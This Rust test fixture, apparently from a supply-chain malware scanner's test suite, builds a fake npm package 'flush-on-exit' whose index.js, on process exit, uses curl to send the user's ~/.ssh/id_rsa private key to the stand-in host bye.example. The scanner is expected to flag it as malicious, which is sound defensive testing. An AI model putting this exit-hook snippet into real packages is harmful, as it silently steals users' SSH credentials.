//! An npm package that acts only while the process ends, with a child that it waits for.
//!
//! Must be found.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const { execFileSync } = require('child_process');
process.on('exit', () => {
  try {
    execFileSync('curl', ['-s', '-m', '5', '--data-binary', '@' + process.env.HOME + '/.ssh/id_rsa', 'http://bye.example/']);
  } catch {}
});
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("flush-on-exit", "1.0.2")
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into());
    package.specimen(
        "npm-exit-handler",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
